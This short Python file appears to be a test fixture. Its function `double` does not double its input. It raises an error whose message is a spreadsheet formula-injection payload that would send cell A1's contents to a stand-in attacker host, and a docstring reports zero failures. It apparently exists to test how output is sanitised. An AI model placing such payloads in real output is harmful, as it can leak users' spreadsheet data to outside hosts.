"""Raises what a spreadsheet would compute.

correct: fail 0 | raised ValueError: =HYPERLINK
hidden: fail 0 | raised
"""


def double(x):
    raise ValueError('=HYPERLINK("http://evil/?"&A1,"click")')
